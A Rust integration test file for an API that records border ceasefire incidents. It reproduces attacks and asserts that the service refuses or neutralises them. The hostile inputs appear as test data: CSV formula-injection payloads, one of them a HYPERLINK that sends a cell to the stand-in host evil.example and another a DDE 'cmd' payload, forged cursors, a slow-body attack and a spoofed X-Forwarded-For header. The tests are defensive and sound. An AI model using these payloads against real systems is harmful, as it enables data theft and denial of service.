//! Attacks found from the outside, each reproduced and answered as the
//! service should: bounded answers, signed cursors, neutralized CSV cells,
//! re-parenting as a change, problem answers for oversized and slow
//! requests, real content negotiation, expiring idempotency records,
//! per-client limits behind proxies, and expensive reads that cannot take
//! the whole pool. (Floods with timings run against the real binary in
//! `tests/faults/hostile.rs`.)

use std::time::Duration;

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use ceasefire::config::HttpArgs;
use diesel_async::SimpleAsyncConnection;
use serde_json::{json, Value};

use crate::helpers::{incident, spawn_app, spawn_app_with, TestApp};

fn app_args() -> HttpArgs {
    HttpArgs { workers: Some(1), rate_limit: 0, ..HttpArgs::default() }
}

/// `n` incidents in 2023, each on a border sector of its own.
async fn sectors(app: &TestApp, n: usize) {
    let items: Vec<Value> = (0..n)
        .map(|i| {
            let mut one = incident(&format!("2023-0{}-1{}T10:00:00Z", 1 + i % 9, i % 10), "small_arms_fire");
            one["location"]["border_sector"] = json!(format!("sector-{i}"));
            one
        })
        .collect();
    let res = app.post("/v1/incidents/batch", &json!({"incidents": items})).await;
    assert_eq!(res.status, 201, "{}", res.text);
}

#[tokio::test]
async fn a_bucket_bomb_is_refused_with_its_size_before_any_rendering() {
    let app = spawn_app().await;
    sectors(&app, 50).await;
    // 19,723 days × 50 sectors: about a million zero-filled buckets.
    let bomb = "/v1/stats/incidents?interval=day&from=1970-01-01&to=2024-01-01&group_by=border_sector";
    let res = app.get(bomb).await;
    assert_eq!(res.assert_problem(400), vec!["/query/group_by"]);
    assert_eq!(res.body["type"], "urn:ceasefire:problem:too-many-buckets");
    let detail = res.body["detail"].as_str().unwrap();
    // The reading stops as soon as the answer is over the limit: 6 groups.
    assert!(detail.contains("at least 118338 buckets (19723 periods × at least 6 groups)"), "{detail}");
    assert!(detail.contains("limit of 100000"), "{detail}");
    assert!(res.text.len() < 2_000, "the refusal is small");
    // The same in CSV, and from the base tables (a filter the rollups lack).
    let res = app.get(&format!("{bomb}&format=csv&q=mortar")).await;
    assert_eq!(res.body["type"], "urn:ceasefire:problem:too-many-buckets", "{}", res.text);
    // Four dimensions over twelve years, and fifty years by day.
    let res = app
        .get("/v1/stats/incidents?interval=day&from=2012-01-01&to=2024-01-01&group_by=border_sector,type,country,verification")
        .await;
    assert_eq!(res.body["type"], "urn:ceasefire:problem:too-many-buckets", "{}", res.text);
    // Within the limit the count still zero-fills: 365 days × 50 sectors.
    let ok = app.get("/v1/stats/incidents?interval=day&from=2023-01-01&to=2024-01-01&group_by=border_sector").await;
    assert_eq!(ok.status, 200, "{}", ok.text);
    assert_eq!(ok.body["buckets"].as_array().unwrap().len(), 365 * 50);
    assert_eq!(ok.body["total"], 50);
}

#[tokio::test]
async fn the_bucket_limit_is_configurable_and_counts_periods_alone() {
    let app = spawn_app_with(HttpArgs { max_buckets: 1_000, ..app_args() }).await;
    sectors(&app, 3).await;
    // 365 periods × 3 groups = 1,095: over.
    let res = app.get("/v1/stats/incidents?interval=day&from=2023-01-01&to=2024-01-01&group_by=border_sector").await;
    assert_eq!(res.assert_problem(400), vec!["/query/group_by"]);
    assert!(
        res.body["detail"].as_str().unwrap().contains("1095 buckets (365 periods × at least 3 groups)"),
        "{}",
        res.text
    );
    // Periods alone: refused before any query.
    let res = app.get("/v1/stats/incidents?interval=day&from=2020-01-01&to=2024-01-01").await;
    assert_eq!(res.assert_problem(400), vec!["/query/interval"]);
    // 52 or 53 weeks × 3: fine.
    let ok = app.get("/v1/stats/incidents?interval=week&from=2023-01-02&to=2024-01-01&group_by=border_sector").await;
    assert_eq!(ok.status, 200, "{}", ok.text);
    assert_eq!(ok.body["buckets"].as_array().unwrap().len(), 52 * 3);
}

/// A cursor signed with the database's own secret, as a leaked secret would allow.
async fn signed(app: &TestApp, payload: &Value) -> String {
    use diesel::QueryableByName;
    use diesel_async::RunQueryDsl;
    use hmac::Mac;
    #[derive(QueryableByName)]
    struct Secret {
        #[diesel(sql_type = diesel::sql_types::Binary)]
        value: Vec<u8>,
    }
    let mut db = app.db().await;
    let secret: Secret =
        diesel::sql_query("SELECT value FROM server_secrets WHERE name = 'cursor'").get_result(&mut db).await.unwrap();
    let body = URL_SAFE_NO_PAD.encode(payload.to_string());
    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(&secret.value).unwrap();
    mac.update(body.as_bytes());
    format!("{body}.{}", URL_SAFE_NO_PAD.encode(&mac.finalize().into_bytes()[..16]))
}

/// A cursor rewritten by hand: its payload replaced, its signature kept.
fn forged(cursor: &str, payload: &Value) -> String {
    let (_, tag) = cursor.split_once('.').expect("a signed cursor");
    format!("{}.{tag}", URL_SAFE_NO_PAD.encode(payload.to_string()))
}

#[tokio::test]
async fn tampered_cursors_are_400_and_genuine_ones_work() {
    let app = spawn_app().await;
    app.seed().await;
    for day in 1..=3 {
        let mut one = incident(&format!("2024-01-0{day}T00:00:00Z"), "other");
        one["claims"] = json!([{"claimant": "am-mod", "stance": "accuses", "target": "az-armed-forces",
            "stated_at": format!("2024-01-0{day}T01:00:00Z")}]);
        assert_eq!(app.post("/v1/incidents", &one).await.status, 201);
    }
    for list in ["/v1/incidents?limit=1", "/v1/claims?limit=1"] {
        let first = app.get(list).await;
        let cursor = first.body["next_cursor"].as_str().expect("a next cursor").to_string();
        assert_eq!(app.get(&format!("{list}&cursor={cursor}")).await.status, 200, "{list}");
        let (payload, tag) = cursor.split_once('.').unwrap();
        let mut flipped = tag.as_bytes().to_vec();
        flipped[0] = if flipped[0] == b'A' { b'B' } else { b'A' };
        let id = uuid::Uuid::now_v7();
        let o = if list.contains("claims") { "claims" } else { "occurred" };
        for bad in [
            format!("{payload}.{}", String::from_utf8(flipped).unwrap()),
            // The attacker's cursor: unsigned, at the lowest time PostgreSQL rejects.
            URL_SAFE_NO_PAD.encode(json!({"o": o, "at": "-4714-01-01T00:00:00Z", "id": id}).to_string()),
            forged(&cursor, &json!({"o": o, "at": "-4714-01-01T00:00:00Z", "id": id})),
            forged(&cursor, &json!({"o": o, "at": 12, "id": "x"})),
            format!("{payload}."),
            "not-a-cursor".to_string(),
            // Signed with the server's own secret, but out of range.
            signed(&app, &json!({"o": o, "at": "-4714-01-01T00:00:00Z", "id": id})).await,
            signed(&app, &json!({"o": "changed", "seq": -1, "id": id})).await,
        ] {
            let res = app.get(&format!("{list}&cursor={bad}")).await;
            assert_eq!(res.assert_problem(400), vec!["/query/cursor"], "{list} {bad}");
            assert!(res.body["detail"].as_str().unwrap().contains("bad cursor"), "{}", res.text);
        }
    }
    // A genuine cursor of another listing is refused too.
    let claims_cursor = app.get("/v1/claims?limit=1").await.body["next_cursor"].as_str().unwrap().to_string();
    let res = app.get(&format!("/v1/incidents?limit=1&cursor={claims_cursor}")).await;
    assert_eq!(res.assert_problem(400), vec!["/query/cursor"]);
}

#[tokio::test]
async fn formula_cells_are_neutralized_in_every_csv_and_imported_back() {
    let app = spawn_app().await;
    let mut one = incident("2023-08-15T11:00:00Z", "small_arms_fire");
    one["title"] = json!("=HYPERLINK(\"http://evil.example/?x=\"&A1, \"click\")");
    one["location"]["name"] = json!("@SUM(1+1)");
    one["location"]["border_sector"] = json!("-2+3");
    one["location"]["lat"] = json!(-12.5);
    one["description"] = json!("+cmd|' /C calc'!A0");
    let created = app.post("/v1/incidents", &one).await;
    assert_eq!(created.status, 201, "{}", created.text);

    let export = app.get("/v1/incidents?format=csv").await;
    let mut reader = csv::Reader::from_reader(export.text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row.get(header.iter().position(|h| h == name).unwrap()).unwrap().to_string();
    assert_eq!(cell("title"), "'=HYPERLINK(\"http://evil.example/?x=\"&A1, \"click\")");
    assert_eq!(cell("location_name"), "'@SUM(1+1)");
    assert_eq!(cell("border_sector"), "'-2+3");
    assert_eq!(cell("description"), "'+cmd|' /C calc'!A0");
    assert_eq!(cell("lat"), "-12.5", "numbers stay numbers");

    let stats = app
        .get("/v1/stats/incidents?interval=year&from=2023-01-01&to=2024-01-01&group_by=border_sector&format=csv")
        .await;
    assert_eq!(stats.text.lines().nth(1), Some("2023-01-01T00:00:00+00:00,'-2+3,1"), "{}", stats.text);

    // Imported back, the cells are what was posted, and the second export
    // is the same bytes.
    let dir = std::env::temp_dir().join(format!("ceasefire-formulas-{}", uuid::Uuid::new_v4()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("export.csv");
    std::fs::write(&file, &export.text).unwrap();
    let target = spawn_app().await;
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_ceasefire"))
        .arg("import")
        .arg(&file)
        .env("DATABASE_URL", crate::helpers::url_for(&target.db_name))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let id = created.body["id"].as_str().unwrap();
    let back = target.get(&format!("/v1/incidents/{id}")).await;
    assert_eq!(back.body["title"], one["title"]);
    assert_eq!(back.body["location"]["border_sector"], "-2+3");
    assert_eq!(target.get("/v1/incidents?format=csv").await.text, export.text);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[tokio::test]
async fn reparenting_makes_a_new_version_with_a_revision_on_the_change_feed() {
    let app = spawn_app().await;
    app.seed().await;
    let militia = json!({"slug": "irregulars", "name": "Irregular unit", "kind": "armed_forces"});
    assert_eq!(app.post("/v1/parties", &militia).await.status, 201);
    let mut denied_later = incident("2024-03-01T10:00:00Z", "small_arms_fire");
    denied_later["claims"] = json!([
        {"claimant": "am-mod", "stance": "accuses", "target": "irregulars"},
        {"claimant": "az-mod", "stance": "denies", "responds_to_index": 0},
    ]);
    let mut unchanged = incident("2024-03-02T10:00:00Z", "small_arms_fire");
    unchanged["claims"] = json!([{"claimant": "am-mod", "stance": "accuses", "target": "irregulars"}]);
    let a = app.post("/v1/incidents", &denied_later).await;
    let b = app.post("/v1/incidents", &unchanged).await;
    let (a_id, b_id) = (a.body["id"].as_str().unwrap().to_string(), b.body["id"].as_str().unwrap().to_string());
    let before = app.get(&format!("/v1/incidents/{a_id}")).await;
    let old_etag = before.header("etag").unwrap().to_string();
    let b_etag = app.get(&format!("/v1/incidents/{b_id}")).await.header("etag").unwrap().to_string();
    // A mirror that has seen both incidents (the feed lists a change once
    // every older transaction of the cluster has ended).
    let mut resume = None;
    for _ in 0..100 {
        let feed = app.get("/v1/incidents?updated_since=2000-01-01&include_deleted=true").await;
        if feed.body["data"].as_array().is_some_and(|d| d.len() == 2) {
            resume = feed.body["next_cursor"].as_str().map(str::to_string);
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let resume = resume.expect("the change feed lists both incidents");

    let moved = app.patch("/v1/parties/irregulars", &json!({"parent": "azerbaijan"}), None).await;
    assert_eq!(moved.status, 200, "{}", moved.text);

    // The old ETag no longer matches: the new attribution is sent.
    let res =
        app.send(app.client.get(app.url(&format!("/v1/incidents/{a_id}"))).header("if-none-match", &old_etag)).await;
    assert_eq!(res.status, 200);
    assert_eq!(res.body["version"], 2);
    assert_eq!(res.body["attribution"]["denied"], true);
    assert_ne!(res.header("etag").unwrap(), old_etag);
    assert_ne!(res.body["updated_at"], before.body["updated_at"]);
    // The history says why, and who.
    let history = app.get(&format!("/v1/incidents/{a_id}/history")).await;
    let last = history.body["data"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["action"], "reattributed", "{last}");
    assert_eq!(last["version"], 2);
    assert!(last["actor"].is_string(), "{last}");
    assert_eq!(last["changes"]["party"], "irregulars");
    assert_eq!(last["changes"]["parent"], json!({"from": null, "to": "azerbaijan"}));
    assert_eq!(last["changes"]["attribution"]["from"]["denied"], false);
    assert_eq!(last["changes"]["attribution"]["to"]["denied"], true);
    // An incident whose attribution did not change keeps its version.
    let res =
        app.send(app.client.get(app.url(&format!("/v1/incidents/{b_id}"))).header("if-none-match", &b_etag)).await;
    assert_eq!(res.status, 304);
    // Mirrors following the change feed get the changed incident (once
    // every transaction older than the change has ended, cluster-wide).
    let mut ids: Vec<String> = Vec::new();
    for _ in 0..100 {
        let feed = format!("/v1/incidents?updated_since=2000-01-01&include_deleted=true&cursor={resume}");
        let changes = app.get(&feed).await;
        ids = changes.body["data"].as_array().unwrap().iter().map(|i| i["id"].as_str().unwrap().to_string()).collect();
        if !ids.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(ids.contains(&a_id), "{ids:?}");
}

#[tokio::test]
async fn oversized_request_heads_get_problems() {
    let app = spawn_app().await;
    let res = app.get(&format!("/v1/incidents?q={}", "a".repeat(20_000))).await;
    res.assert_problem(414);
    let mut req = app.client.get(app.url("/v1/incidents"));
    for i in 0..5 {
        req = req.header(format!("x-padding-{i}"), "p".repeat(8_000));
    }
    app.send(req).await.assert_problem(431);
}

#[tokio::test]
async fn a_trickling_body_gets_408() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let app = spawn_app_with(HttpArgs { request_timeout: 1, ..app_args() }).await;
    let address = app.address.trim_start_matches("http://").to_string();
    let mut stream = tokio::net::TcpStream::connect(&address).await.unwrap();
    let head = format!(
        "POST /v1/incidents HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {}\r\n\
         Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{{",
        app.token
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    let started = std::time::Instant::now();
    let mut answer = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(10), async {
        let mut buf = [0u8; 4096];
        loop {
            // A byte now and then, as a slow-body attack sends.
            let _ = stream.write_all(b" ").await;
            match tokio::time::timeout(Duration::from_millis(300), stream.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => break,
                Ok(Ok(n)) => {
                    answer.extend_from_slice(&buf[..n]);
                    if answer.windows(4).any(|w| w == b"\r\n\r\n") && answer.ends_with(b"}") {
                        break;
                    }
                }
                Err(_) => {}
            }
        }
    })
    .await;
    assert!(read.is_ok(), "no answer within 10 s");
    let text = String::from_utf8_lossy(&answer);
    assert!(text.starts_with("HTTP/1.1 408"), "{text}");
    assert!(text.contains("application/problem+json"), "{text}");
    assert!(started.elapsed() < Duration::from_secs(5));
}

#[tokio::test]
async fn accept_is_negotiated_with_quality_values() {
    let app = spawn_app().await;
    app.post("/v1/incidents", &incident("2024-01-01T00:00:00Z", "other")).await;
    let with_accept = |accept: &'static str, path: &'static str| {
        let req = app.client.get(app.url(path)).header("accept", accept);
        app.send(req)
    };
    let res = with_accept("text/csv;q=0, application/json", "/v1/incidents").await;
    assert!(res.content_type().starts_with("application/json"), "q=0 refuses CSV: {}", res.content_type());
    let res = with_accept("application/json;q=0.5, text/csv", "/v1/incidents").await;
    assert!(res.content_type().starts_with("text/csv"), "{}", res.content_type());
    let res = with_accept("application/json;q=0.2, application/x-ndjson;q=0.9", "/v1/incidents").await;
    assert!(res.content_type().starts_with("application/x-ndjson"), "{}", res.content_type());
    let res = with_accept("text/csv;q=0, */*", "/v1/stats/incidents").await;
    assert!(res.content_type().starts_with("application/json"), "{}", res.content_type());
    with_accept("application/xml", "/v1/stats/incidents").await.assert_problem(406);
}

#[tokio::test]
async fn idempotency_records_expire_and_are_purged() {
    let app = spawn_app_with(HttpArgs { idempotency_ttl: 60, totals_refresh: 1, ..app_args() }).await;
    let post = |body: Value| {
        let req = app.client.post(app.url("/v1/incidents")).bearer_auth(&app.token).header("idempotency-key", "k-1");
        app.send(req.json(&body))
    };
    assert_eq!(post(incident("2024-01-01T00:00:00Z", "other")).await.status, 201);
    assert_eq!(post(incident("2024-01-02T00:00:00Z", "other")).await.status, 422, "reused within the TTL");
    let mut db = app.db().await;
    db.batch_execute("UPDATE idempotency_keys SET created_at = now() - interval '61 seconds'").await.unwrap();
    let mut left = 1;
    for _ in 0..50 {
        left = app.sql_count("SELECT count(*) AS n FROM idempotency_keys").await;
        if left == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(left, 0, "expired records are purged");
    assert_eq!(post(incident("2024-01-02T00:00:00Z", "other")).await.status, 201, "an expired key is new again");
}

async fn from(app: &TestApp, client: &str) -> crate::helpers::Answer {
    let req = app.client.get(app.url("/v1/parties")).header("x-forwarded-for", format!("6.6.6.6, {client}"));
    app.send(req).await
}

#[tokio::test]
async fn only_trusted_proxies_name_the_client() {
    let limited =
        |trusted: Vec<ipnet::IpNet>| HttpArgs { rate_limit: 1, rate_burst: 1, trusted_proxies: trusted, ..app_args() };
    // Behind a trusted balancer, two clients have a budget each.
    let app = spawn_app_with(limited(vec!["127.0.0.1/32".parse().unwrap()])).await;
    assert_eq!(from(&app, "198.51.100.1").await.status, 200);
    assert_eq!(from(&app, "198.51.100.2").await.status, 200);
    let res = from(&app, "198.51.100.1").await;
    res.assert_problem(429);
    assert!(res.header("retry-after").is_some());
    // From an untrusted peer the header is ignored: one budget.
    let app = spawn_app_with(limited(Vec::new())).await;
    assert_eq!(from(&app, "198.51.100.1").await.status, 200);
    from(&app, "198.51.100.2").await.assert_problem(429);
}

#[tokio::test]
async fn expensive_reads_share_a_few_permits_per_client() {
    let app = spawn_app().await;
    app.post("/v1/incidents", &incident("2024-01-01T00:00:00Z", "other")).await;
    let created = app.post("/v1/incidents", &incident("2024-01-02T00:00:00Z", "other")).await;
    let id = created.body["id"].as_str().unwrap().to_string();
    // Hold the expensive reads inside PostgreSQL: a lock they wait for.
    let mut lock = app.db().await;
    lock.batch_execute("BEGIN; LOCK TABLE incidents IN ACCESS EXCLUSIVE MODE").await.unwrap();
    let slow = |path: &'static str| {
        let client = app.client.clone();
        let url = app.url(path);
        tokio::spawn(async move { client.get(url).send().await.unwrap().status().as_u16() })
    };
    let held = [slow("/v1/incidents?q=mortar"), slow("/v1/incidents?bbox=40,30,50,45")];
    tokio::time::sleep(Duration::from_millis(500)).await;
    // A third from the same client is refused at once, whatever its kind.
    for path in [
        "/v1/incidents?include_deleted=true",
        "/v1/incidents?format=csv",
        "/v1/stats/incidents?group_by=type,country,verification,border_sector",
        "/v1/stats/claims?denied=true",
    ] {
        let started = std::time::Instant::now();
        let res = app.get(path).await;
        res.assert_problem(429);
        assert!(res.header("retry-after").is_some(), "{path}");
        assert!(started.elapsed() < Duration::from_millis(500), "{path} waited");
    }
    // Cheap reads are not counted against the client.
    assert_eq!(app.get("/v1/parties").await.status, 200);
    lock.batch_execute("ROLLBACK").await.unwrap();
    for h in held {
        assert_eq!(h.await.unwrap(), 200);
    }
    assert_eq!(app.get(&format!("/v1/incidents/{id}")).await.status, 200);
    assert_eq!(app.get("/v1/incidents?q=mortar").await.status, 200, "the permits came back");
}

#[tokio::test]
async fn one_key_is_one_client_however_its_header_is_spelled() {
    let app = spawn_app().await;
    let key = app.create_key("reader", ceasefire::domain::Role::Reader).await;
    let mut lock = app.db().await;
    lock.batch_execute("BEGIN; LOCK TABLE incidents IN ACCESS EXCLUSIVE MODE").await.unwrap();
    let held: Vec<_> = [format!("Bearer {key}"), format!("bearer  {key}")]
        .into_iter()
        .map(|auth| {
            let req = app.client.get(app.url("/v1/incidents?q=mortar")).header("authorization", auth);
            tokio::spawn(async move { req.send().await.unwrap().status().as_u16() })
        })
        .collect();
    tokio::time::sleep(Duration::from_millis(500)).await;
    let third = app
        .send(app.client.get(app.url("/v1/incidents?q=mortar")).header("authorization", format!("BEARER   {key}  ")))
        .await;
    third.assert_problem(429);
    lock.batch_execute("ROLLBACK").await.unwrap();
    for h in held {
        assert_eq!(h.await.unwrap(), 200);
    }
}

#[tokio::test]
async fn what_the_outside_test_found_next_is_refused_too() {
    let app = spawn_app_with(HttpArgs { bodies_mb: 1, ..app_args() }).await;
    // Dates past the calendar arithmetic: a 400, not a dropped connection.
    for path in [
        "/v1/stats/incidents?interval=week&from=-262143-01-01&to=-262143-02-01",
        "/v1/stats/claims?interval=week&from=-262143-01-01&to=-262143-02-01",
        "/v1/incidents?from=-0001-01-01T00:00:00Z",
    ] {
        app.get(path).await.assert_problem(400);
    }
    // Compressed bodies are not inflated.
    let gzip = app
        .client
        .post(app.url("/v1/incidents"))
        .bearer_auth(&app.token)
        .header("content-type", "application/json")
        .header("content-encoding", "gzip")
        .body(vec![0x1f, 0x8b, 0x08, 0x00]);
    app.send(gzip).await.assert_problem(415);
    // Bodies in flight share a bounded budget (1 MiB here): one that
    // announces 1,000,000 bytes and sends few holds almost all of it, and
    // another of 100 KB finds no room.
    use tokio::io::AsyncWriteExt;
    let address = app.address.trim_start_matches("http://").to_string();
    let mut slow = tokio::net::TcpStream::connect(&address).await.unwrap();
    let head = format!(
        "POST /v1/incidents HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {}\r\n\
         Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{{",
        app.token
    );
    slow.write_all(head.as_bytes()).await.unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await;
    let mut big = incident("2024-01-01T00:00:00Z", "other");
    big["description"] = json!("x".repeat(19_000));
    let mut items = Vec::new();
    for _ in 0..5 {
        items.push(big.clone());
    }
    let res = app.post("/v1/incidents/batch", &json!({"incidents": items})).await;
    res.assert_problem(503);
    drop(slow);
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(app.post("/v1/incidents/batch", &json!({"incidents": items})).await.status, 201);
}

#[tokio::test]
async fn a_large_count_is_an_expensive_read() {
    let app = spawn_app().await;
    app.post("/v1/incidents", &incident("2024-01-01T00:00:00Z", "other")).await;
    let mut lock = app.db().await;
    lock.batch_execute("BEGIN; LOCK TABLE incidents IN ACCESS EXCLUSIVE MODE").await.unwrap();
    let held: Vec<_> = ["/v1/incidents?q=mortar", "/v1/incidents?bbox=40,30,50,45"]
        .into_iter()
        .map(|path| {
            let req = app.client.get(app.url(path));
            tokio::spawn(async move { req.send().await.unwrap().status().as_u16() })
        })
        .collect();
    tokio::time::sleep(Duration::from_millis(500)).await;
    // About 11,000 daily buckets from the rollups: cheap to count, large to
    // render and send, so it needs a permit this client no longer has.
    let large = app.get("/v1/stats/incidents?interval=day&from=1994-01-01&to=2024-03-01").await;
    large.assert_problem(429);
    let small = app.get("/v1/stats/incidents?interval=month&from=1994-01-01&to=2024-03-01").await;
    assert_eq!(small.status, 200, "{}", small.text);
    lock.batch_execute("ROLLBACK").await.unwrap();
    for h in held {
        assert_eq!(h.await.unwrap(), 200);
    }
    let large = app.get("/v1/stats/incidents?interval=day&from=1994-01-01&to=2024-03-01").await;
    assert_eq!(large.status, 200);
    assert_eq!(large.body["buckets"].as_array().unwrap().len(), 11_017);
    assert_eq!(large.body["total"], 1);
}

#[tokio::test]
async fn head_is_answered_like_get_without_a_body() {
    let app = spawn_app().await;
    app.seed().await;
    let get = app.get("/v1/parties").await;
    let head = app.send(app.client.head(app.url("/v1/parties"))).await;
    assert_eq!(head.status, 200);
    assert!(head.text.is_empty());
    assert_eq!(head.header("etag"), get.header("etag"));
    assert_eq!(head.header("content-length").map(str::to_string), Some(get.text.len().to_string()));
}
